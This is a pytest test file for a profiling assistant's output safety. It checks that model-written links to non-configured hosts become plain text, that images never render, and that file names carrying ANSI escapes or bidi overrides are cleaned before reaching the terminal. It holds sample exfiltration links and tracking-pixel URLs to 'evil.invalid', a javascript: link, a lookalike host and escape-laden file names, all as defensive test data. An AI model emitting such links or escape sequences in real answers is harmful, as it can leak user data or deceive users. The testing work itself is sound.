"""What a model may put on the page, and what reaches a terminal.

GIVEN a model answer with links, autolinks, bare URLs, reference links and images, WHEN it is
shown (chat, app, handoff), THEN only links to the configured Pyroscope or Grafana host stay
clickable; everything else is plain text with the URL in a code span, and no image renders.
GIVEN a file name with ESC or a newline, WHEN the CLI prints it, THEN no control character
reaches the terminal and the layout holds.
"""

from __future__ import annotations

import io
import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from openai_server import OpenAIServer, Reply
from streamlit.testing.v1 import AppTest
from test_app import APP, QUESTION, choose_model, no_exception

from explainer.cli.main import main
from explainer.cli.terminal import terminal_safe
from explainer.demo import demo_profile
from explainer.explain import Conversation, LlmSettings
from explainer.explain.safety import link_hosts, sanitize_markdown
from explainer.model import Profile
from explainer.writers import to_pprof

GRAFANA = "grafana.example.com"
HOSTILE_LINKS = {
    "inline": "Read [the fix](https://evil.invalid/steal?d=KV) first.",
    "titled": '[docs](http://evil.invalid/x "title")',
    "image": "![chart](https://evil.invalid/pixel.png?kv=55.1GB)",
    "image in a link": "[![c](https://evil.invalid/a.png)](https://evil.invalid/b)",
    "autolink": "<https://evil.invalid/auto>",
    "bare": "More at https://evil.invalid/bare.",
    "www": "see www.evil.invalid/w for details",
    "reference": "[click][1]\n\n[1]: https://evil.invalid/ref",
    "javascript": "[run](javascript:alert(1))",
    "lookalike host": "[dash](https://grafana.example.com.evil.invalid/d)",
}


def _rendered(markdown: str) -> str:
    return MarkdownIt("commonmark").render(markdown)


def _bare_urls_outside_code(markdown: str) -> list[str]:
    """What a GFM renderer (Streamlit's) would linkify: URLs not inside a code span."""
    outside = re.sub(r"(`+)[^\n]*?\1|\]\([^)]*\)", "", markdown)  # code spans and inline link targets
    return [u.rstrip(".,;:!?)") for u in re.findall(r"(?:https?://|www\.)[^\s<>`]+", outside)]


@pytest.mark.parametrize("case", sorted(HOSTILE_LINKS))
def test_links_to_other_hosts_become_plain_text(case: str) -> None:
    safe, _cut = sanitize_markdown(HOSTILE_LINKS[case], hosts=(GRAFANA,))
    html = _rendered(safe)
    assert "<a " not in html and "<img" not in html, html
    assert _bare_urls_outside_code(safe) == [], safe
    if "evil.invalid" in HOSTILE_LINKS[case] and case != "javascript":
        assert "evil.invalid" in safe, "the URL stays readable, as text"


def test_links_to_the_configured_grafana_and_pyroscope_stay() -> None:
    text = (
        f"Open [the dashboard](https://{GRAFANA}/d/gpu?from=now-1h) or "
        "http://pyroscope.local:4040/explore, not [this](https://evil.invalid/)."
    )
    safe, _cut = sanitize_markdown(text, hosts=link_hosts(f"https://{GRAFANA}", "http://pyroscope.local:4040"))
    html = _rendered(safe)
    assert f'<a href="https://{GRAFANA}/d/gpu?from=now-1h">the dashboard</a>' in html
    assert "http://pyroscope.local:4040/explore" in _bare_urls_outside_code(safe)
    assert "evil.invalid" not in " ".join(re.findall(r'href="([^"]*)"', html))
    assert sanitize_markdown(f"![x](https://{GRAFANA}/a.png)", hosts=(GRAFANA,))[0].count("(") == 1, "images never"


def test_code_spans_and_names_are_left_verbatim() -> None:
    text = "`operator[](http://x)` and `GPUModelRunner._allocate_kv_cache_tensors` use 55.1 GB"
    assert sanitize_markdown(text)[0] == text


@pytest.fixture
def server() -> Iterator[OpenAIServer]:
    with OpenAIServer() as srv:
        yield srv


def test_the_model_path_applies_the_configured_hosts(demo: Profile, server: OpenAIServer) -> None:
    server.push(
        Reply(
            f"The KV cache is the biggest. See [Grafana](https://{GRAFANA}/explore) and "
            "[this trick](https://evil.invalid/x) or ![p](https://evil.invalid/p.png).\n"
        )
    )
    settings = LlmSettings.from_env(
        {"EXPLAINER_MODEL": "m", "OPENAI_BASE_URL": server.url, "GRAFANA_URL": f"https://{GRAFANA}"}, environ={}
    )
    answer = Conversation(demo, settings=settings, mode="llm").ask(QUESTION)
    hrefs = re.findall(r'href="([^"]*)"', _rendered(answer.markdown))
    assert hrefs == [f"https://{GRAFANA}/explore"], hrefs
    assert [u for u in _bare_urls_outside_code(answer.markdown) if "evil" in u] == [], answer.markdown
    assert "<img" not in _rendered(answer.markdown) and "this trick (`https://evil.invalid/x`" in answer.markdown


def test_the_app_shows_model_links_as_text(server: OpenAIServer) -> None:
    server.push(Reply("The KV cache dominates; [read more](https://evil.invalid/more).\n"))
    at = AppTest.from_file(APP, default_timeout=60)
    at.secrets.update({"OPENAI_BASE_URL": server.url, "EXPLAINER_MODEL": "test-model", "OPENAI_API_KEY": "k"})
    at = choose_model(at)
    at.chat_input[0].set_value(QUESTION).run()
    at.button(key="send_pending").click().run()
    no_exception(at)
    text = "\n".join(m.value for m in at.chat_message[-1].markdown)
    assert "read more (`https://evil.invalid/more`" in text and "](https://evil" not in text
    assert [u for u in _bare_urls_outside_code(text) if "evil" in u] == [], text


# the terminal -------------------------------------------------------------------------------

EVIL_NAME = "ev\x1b[31mil\nname\x07\u202e.pb.gz"


def _cli(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    return main(list(argv), out, err), out.getvalue(), err.getvalue()


def _no_controls(text: str) -> None:
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", text), repr(text[:200])


@pytest.mark.parametrize("argv", [["analyze"], ["analyze", "--format", "markdown"], ["ask", "what is this"], ["diff"]])
def test_file_names_with_control_characters_reach_the_terminal_cleaned(argv: list[str], tmp_path: Path) -> None:
    path = tmp_path / EVIL_NAME
    path.write_bytes(to_pprof(demo_profile()))
    args = [argv[0], str(path), str(path), *argv[1:]] if argv[0] == "diff" else [argv[0], str(path), *argv[1:]]
    code, out, err = _cli(*args)
    assert code == 0, err
    _no_controls(out)
    _no_controls(err)
    if argv == ["analyze"]:
        assert out.splitlines()[0].endswith("(pprof, malloc/bytes)"), "the name cannot break the header line"


def test_errors_naming_a_hostile_file_are_one_clean_line(tmp_path: Path) -> None:
    code, _out, err = _cli("analyze", str(tmp_path / EVIL_NAME))
    assert code == 2 and err.count("\n") == 1
    _no_controls(err)


def test_terminal_safe_keeps_layout_and_replaces_the_rest() -> None:
    assert terminal_safe("a\tb\nc") == "a\tb\nc"
    assert terminal_safe("\x1b[2J\r\x08\x9b\u202e\u200b") == "\ufffd[2J" + "\ufffd" * 5


def test_argparse_messages_echoing_the_command_line_are_cleaned(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as info:
        main(["analyze", "x", "ex\x1b[2Jtra"])
    assert info.value.code == 2
    err = capsys.readouterr().err
    assert "unrecognized arguments" in err
    _no_controls(err)


def test_json_output_is_exact_data_and_terminal_safe(tmp_path: Path) -> None:
    from explainer.model import ProfileBuilder, SampleType

    raw_name = "evil\x1b[2J\x9b31m\u202ename"
    b = ProfileBuilder(SampleType("alloc_space", "bytes"))
    b.add(["main", raw_name], 10)
    path = tmp_path / "p.pb.gz"
    path.write_bytes(to_pprof(b.build()))
    code, out, _err = _cli("analyze", str(path), "--format", "json")
    assert code == 0
    _no_controls(out)  # escaped as \\uXXXX, not raw
    assert raw_name in {row["name"] for row in json.loads(out)["top_self"]}, "scripts get the raw name back"
